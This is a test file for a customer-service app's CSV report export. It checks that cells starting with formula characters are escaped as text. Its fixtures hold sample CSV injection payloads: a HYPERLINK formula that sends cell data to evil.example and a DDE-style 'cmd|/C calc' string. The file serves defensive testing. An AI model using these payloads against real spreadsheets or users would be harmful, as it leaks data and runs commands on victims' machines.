/**
 * CSV formula injection (issue 11, item 3): customers' words and agents' titles reach the report's
 * CSV files, which managers open in Excel. A cell starting with `=`, `+`, `-`, `@`, a tab or a
 * carriage return must come out as text (`'` prefix, quoted), through the real report: the API's
 * download and `kefu report`, on a real redis-server.
 */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { FastifyInstance } from 'fastify';
import type { Redis } from 'ioredis';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { buildApp } from '../../src/console/app.ts';
import { AgentStore } from '../../src/console/auth/index.ts';
import { csvCell, toCsv } from '../../src/csv.ts';
import { Handoff } from '../../src/handoff/index.ts';
import { DEFAULT_SLA_POLICY } from '../../src/handoff/sla.ts';
import { createKnowledgeService, type KnowledgeService } from '../../src/knowledge/index.ts';
import { useRedisServer } from '../support/hooks.ts';
import { entry, makeTree, removeTrees } from '../support/kb-tree.ts';
import { runNode } from '../support/processes.ts';
import { randomPrefix, type RedisServer } from '../support/redis.ts';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));
let redis: Redis;
let server: RedisServer;
useRedisServer((s, c) => {
  server = s;
  redis = c;
});

const PW = 'correct horse battery';
const TUESDAY_10 = Date.parse('2026-11-24T02:00:00Z'); // 10:00 in Shanghai
const ALICE = { id: 'alice', name: 'Alice' };
const RANGE = 'from=2026-11-24&to=2026-11-24';

/** What customers asked that the FAQ could not answer: one per dangerous first character that survives the bot's trimming. */
const ASKED = ['=HYPERLINK("http://evil.example/?x="&A1,"点我领红包")', '+86 客服电话多少', '-2 块钱能退吗', '@SUM(1+1)*cmd|/C calc'];
/** Problem titles and notes as agents typed them (the handoff keeps them as given): every dangerous first character. */
const TITLES = ['=1+1 导出失败', '+1 登录闪退', '-1 同步变慢', '@管理员 账号锁定', '\t=1+1 制表符开头', '\r=1+1 回车开头'];

let app: FastifyInstance;
let handoff: Handoff;
let knowledge: KnowledgeService;
let kbDir: string;
let token: string;

beforeEach(async () => {
  const prefix = randomPrefix();
  handoff = new Handoff(redis, { prefix, policy: DEFAULT_SLA_POLICY, now: () => TUESDAY_10 });
  const agents = new AgentStore(redis, prefix);
  await agents.add({ username: 'mia', roles: ['manager'], password: PW, name: 'Mia' });
  token = (await agents.login('mia', PW))!.token;
  kbDir = await makeTree({ 'billing/refund.md': entry('question: 怎么退款？\ntags: [billing]') });
  knowledge = await createKnowledgeService({ dir: kbDir, watch: false });
  app = await buildApp({ handoff, agents, redis, knowledge, ui: false });
});
afterEach(async () => {
  await app.close();
  await knowledge.close();
  await removeTrees();
});

async function seed(): Promise<void> {
  for (const [i, text] of ASKED.entries()) {
    const ref = { botId: 'botA', customerId: `c${i}` };
    await handoff.recordTurn(ref, { from: 'customer', text }, { replies: [{ from: 'bot', text: 'ok' }], decidedFor: 'bot', outcome: { type: 'unanswered', question: text } });
  }
  for (const title of TITLES) {
    const p = await handoff.problems.create({ title, by: ALICE });
    await handoff.problems.fixed(p.id, { note: title, by: ALICE });
  }
}

/** RFC 4180 reader (quoted cells with "" and line breaks), enough to read back what Excel would. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < body.length; i++) {
    const ch = body[i]!;
    if (quoted && ch === '"' && body[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (!quoted && ch === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && ch === '\r' && body[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += ch;
    }
  }
  return rows;
}

const DANGEROUS = /^[=+\-@\t\r]/;

/** Every cell a spreadsheet would read as a formula, with where it is. */
function formulaCells(csv: string): string[] {
  return parseCsv(csv).flatMap((r, i) => r.filter((c) => DANGEROUS.test(c)).map((c) => `row ${i + 1}: ${JSON.stringify(c)}`));
}

function checkReportFiles(unanswered: string, problems: string): void {
  expect(formulaCells(unanswered)).toEqual([]);
  expect(formulaCells(problems)).toEqual([]);
  const questions = parseCsv(unanswered).slice(1).map((r) => r[0]);
  for (const text of ASKED) expect(questions).toContain(`'${text}`);
  // Raw: the neutralised cell is quoted (the quote inside the formula doubled).
  expect(unanswered).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我领红包"")"`);
  const rows = parseCsv(problems).slice(1);
  for (const title of TITLES) {
    const row = rows.find((r) => r[1] === `'${title}`);
    expect(row, JSON.stringify(title)).toBeDefined();
    expect(row!.at(-1)).toBe(`'${title}`); // the fix note
  }
  expect(problems).toContain(`"'\t=1+1 制表符开头"`);
  expect(problems).toContain(`"'\r=1+1 回车开头"`);
}

describe('report CSV files never carry a formula', () => {
  it('the API download: customers\' questions and problem titles and notes come out as text', async () => {
    await seed();
    const get = (file: string) => app.inject({ method: 'GET', url: `/api/report?${RANGE}&file=${file}`, headers: { authorization: `Bearer ${token}` } });
    const [unanswered, problems] = await Promise.all([get('unanswered.csv'), get('problems.csv')]);
    expect(unanswered.statusCode, unanswered.body).toBe(200);
    expect(problems.statusCode, problems.body).toBe(200);
    checkReportFiles(unanswered.body, problems.body);
    // Every other file of the report goes through the same writer.
    for (const file of ['daily.csv', 'top-issues.csv', 'csat.csv']) {
      const res = await get(file);
      expect(res.statusCode).toBe(200);
      expect(formulaCells(res.body), file).toEqual([]);
    }
  });

  it('kefu report writes the same neutralised files', async () => {
    await seed();
    const out = await mkdtemp(path.join(os.tmpdir(), 'kefu-report-csv-'));
    try {
      const r = await runNode(['--import', 'tsx', 'src/console/cli.ts', 'report', '--from', '2026-11-24', '--to', '2026-11-24', '--out', out], {
        cwd: ROOT,
        env: { ...process.env, REDIS_URL: server.url, REDIS_PREFIX: handoff.keys.prefix, KB_DIR: kbDir },
      });
      expect(r.code, r.stderr).toBe(0);
      const read = (name: string) => readFile(path.join(out, `report-2026-11-24_2026-11-24-${name}`), 'utf8');
      checkReportFiles(await read('unanswered.csv'), await read('problems.csv'));
    } finally {
      await rm(out, { recursive: true, force: true });
    }
  }, 60_000);
});

describe('the CSV writer', () => {
  it('neutralises each dangerous first character, and only text cells', () => {
    for (const ch of ['=', '+', '-', '@', '\t', '\r']) expect(csvCell(`${ch}1+1`)).toBe(`"'${ch}1+1"`);
    // Numbers the report computed stay numbers; text that only contains the characters is left alone.
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell('1+1=2 @home')).toBe('1+1=2 @home');
    // Some importers trim cells: a formula after white space is neutralised too.
    expect(csvCell(' =1')).toBe(`"' =1"`);
    expect(csvCell('a,"b"')).toBe('"a,""b"""');
    expect(csvCell(null)).toBe('');
    expect(toCsv([['a', 1], ['=b', '']])).toBe('\uFEFFa,1\r\n"\'=b",\r\n');
  });
});
